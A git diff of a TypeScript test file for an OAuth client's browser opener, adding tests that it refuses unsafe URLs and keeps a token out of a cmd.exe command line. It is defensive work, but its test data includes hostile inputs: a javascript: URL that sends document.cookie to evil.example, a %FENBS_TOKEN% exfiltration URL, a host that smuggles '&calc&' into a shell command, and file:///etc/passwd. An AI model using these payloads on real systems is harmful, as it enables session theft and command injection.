@@ -10,7 +10,7 @@ import { pino } from 'pino';
 import { afterEach, describe, expect, it } from 'vitest';
 import { UsageError } from '../src/config.js';
 import { authorizationServerMetadataUrls, discover, isResourceFor, parseBearerChallenge, resourceMetadataUrls } from '../src/oauth/discovery.js';
-import { openerCommand } from '../src/oauth/browser.js';
+import { BROWSER_URL_VARIABLE, openableUrlProblem, openBrowser, openerCommand } from '../src/oauth/browser.js';
 import { withFileLock, LockTimeoutError } from '../src/oauth/file-lock.js';
 import { obtainClient, refreshTokens, signIn, toStoredTokens, type FlowDeps } from '../src/oauth/flow.js';
 import { createOAuthHttp } from '../src/oauth/http.js';
@@ -202,10 +202,53 @@ describe('cross-process lock', () => {
 describe('browser opener', () => {
   it('runs $BROWSER through the shell with the URL as one argument, else the system opener', () => {
     const url = 'https://as.example/auth?a=1&b=$(x)';
-    expect(openerCommand(url, { BROWSER: 'firefox --new-window' }, 'linux')).toEqual({ file: '/bin/sh', args: ['-c', 'firefox --new-window "$1"', 'fenbs-mcp-browser', url] });
-    expect(openerCommand(url, {}, 'linux')).toEqual({ file: 'xdg-open', args: [url] });
-    expect(openerCommand(url, {}, 'darwin')).toEqual({ file: 'open', args: [url] });
-    expect(openerCommand(url, {}, 'win32')).toEqual({ file: 'rundll32', args: ['url.dll,FileProtocolHandler', url] });
+    expect(openerCommand(url, { BROWSER: 'firefox --new-window' }, 'linux')).toEqual({ file: '/bin/sh', args: ['-c', 'firefox --new-window "$1"', 'fenbs-mcp-browser', url], env: {}, windowsVerbatimArguments: false });
+    expect(openerCommand(url, {}, 'linux')).toMatchObject({ file: 'xdg-open', args: [url] });
+    expect(openerCommand(url, {}, 'darwin')).toMatchObject({ file: 'open', args: [url] });
+    expect(openerCommand(url, {}, 'win32')).toMatchObject({ file: 'rundll32', args: ['url.dll,FileProtocolHandler', url] });
+  });
+
+  it('hands the URL to cmd.exe in a variable, so a %NAME% in it never becomes the value of one of the user\'s variables', () => {
+    // cmd.exe expands %NAME% inside quotes too: written into the line, this URL would carry FENBS_TOKEN.
+    const url = 'https://evil.example/?t=%FENBS_TOKEN%&u=!FENBS_TOKEN!';
+    const command = openerCommand(url, { BROWSER: '"C:\\Program Files\\Firefox\\firefox.exe" -new-window' }, 'win32');
+    expect(command).toEqual({
+      file: 'cmd.exe',
+      args: ['/d', '/v:off', '/s', '/c', `""C:\\Program Files\\Firefox\\firefox.exe" -new-window "%${BROWSER_URL_VARIABLE}%""`],
+      env: { [BROWSER_URL_VARIABLE]: url },
+      windowsVerbatimArguments: true,
+    });
+    expect(command.args.join(' ')).not.toContain('FENBS_TOKEN');
+  });
+
+  it('opens only canonical https URLs, and http to this machine, without a user name', () => {
+    for (const url of ['https://as.example/authorize?client_id=a&state=b', 'https://xn--e1afmkfd.xn--p1ai/auth', 'http://127.0.0.1:8080/authorize', 'http://localhost/a', 'http://[::1]:9/a']) expect(openableUrlProblem(url), url).toBeUndefined();
+    const refused: [string, RegExp][] = [
+      ['file:///etc/passwd', /scheme is file:/],
+      ['javascript:alert(1)', /scheme is javascript:/],
+      ['data:text/html,<script>alert(1)</script>', /scheme is data:/],
+      ['ms-msdt:/id PCWDiagnostic', /scheme is ms-msdt:/],
+      ['vscode://ext/run', /scheme is vscode:/],
+      ['http://evil.example/authorize', /http: to a host other than this machine/],
+      ['http://127.0.0.1.evil.example/authorize', /http: to a host other than this machine/],
+      ['https://fenbs.ai@evil.example/', /user name or password/],
+      ['https://a:b@evil.example/', /user name or password/],
+      ['HTTPS://AS.example/auth', /not written the way a browser would read it/],
+      ['https://as.example/a b', /not written the way/],
+      ['https://пример.рф/', /not written the way/],
+      // WHATWG URL keeps a double quote in a host: it would end cmd.exe's quoting.
+      ['https://a"&calc&".example/', /not written the way/],
+      ['not a url', /not a URL/],
+    ];
+    for (const [url, reason] of refused) expect(openableUrlProblem(url), url).toMatch(reason);
+  });
+
+  it('refuses, starting nothing, a URL that may not be opened, whoever hands it over', () => {
+    const errors: string[] = [];
+    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'http://evil.example/']) {
+      expect(() => openBrowser(url, { env: { BROWSER: 'true' }, platform: 'linux', onError: (message) => errors.push(message) }), url).toThrow(expect.objectContaining({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/^refused to open .* in the browser: /) }));
+    }
+    expect(errors).toEqual([]);
   });
 });
 
@@ -334,6 +377,19 @@ describe('sign-in steps against a scripted authorization server', () => {
     expect(body.get('resource')).toBe(`${as.issuer}/mcp`);
     expect(body.get('client_secret')).toBe('dcr-secret-value');
     expect(deps.secrets).toEqual(expect.arrayContaining(['dcr-secret-value', 'code-value-5678', 'at-value-1234', body.get('code_verifier')]));
+  });
+
+  it('neither shows nor opens a sign-in page that may not be opened, even when discovery did not check it', async () => {
+    const { as, discovered } = await scriptedAs({});
+    const shown: string[] = [];
+    const deps = { ...flowDeps(() => ({})), showUrl: (url: string) => shown.push(url), openBrowser: (url: string) => shown.push(url) };
+    const hostile = { ...discovered, as: { ...as, authorization_endpoint: 'javascript:fetch("//evil.example/"+document.cookie)' } };
+    await expect(signIn(deps, { discovered: hostile, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({
+      code: 'AUTH_REQUIRED',
+      failure: 'failed',
+      message: expect.stringMatching(/^refused to open the sign-in page of .* in the browser: its scheme is javascript:/),
+    });
+    expect(shown).toEqual([]);
   });
 
   it('refuses an authorization response whose iss is another server (RFC 9207)', async () => {
